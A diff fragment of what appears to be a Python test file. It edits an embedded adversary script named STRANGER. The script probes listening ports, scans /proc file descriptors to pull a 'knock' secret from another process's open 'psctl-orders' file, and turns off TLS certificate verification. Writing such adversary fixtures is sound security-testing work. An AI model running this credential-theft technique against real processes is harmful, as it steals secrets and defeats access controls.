@@ -29,8 +29,24 @@ KINDS = {
 STRANGER = """
 import hmac, json, os, pathlib, socket, ssl, sys, time
 host, ports = sys.argv[1], [int(port) for port in sys.argv[2].split(",")]
-found = [json.loads(path.read_bytes()) for path in pathlib.Path.home().rglob("orders.json")]
-secret = bytes.fromhex(next(each["knock"] for each in found if "knock" in each))
+
+def link_of(path):
+    try:
+        return os.readlink(path)
+    except OSError:
+        return ""
+
+def listens(port):
+    try:
+        socket.create_connection((host, port), 3).close()
+    except ConnectionRefusedError:  # it listens on loopback alone
+        return False
+    return True
+
+ports = [port for port in ports if listens(port)]
+assert ports, "nobody listens"
+orders = [path for path in pathlib.Path("/proc").glob("[0-9]*/fd/*") if "psctl-orders" in link_of(path)]
+secret = bytes.fromhex(json.loads(orders[0].read_bytes())["knock"])
 nobody = ssl.create_default_context()
 nobody.check_hostname, nobody.verify_mode = False, ssl.CERT_NONE
 overheard = bytes(32)
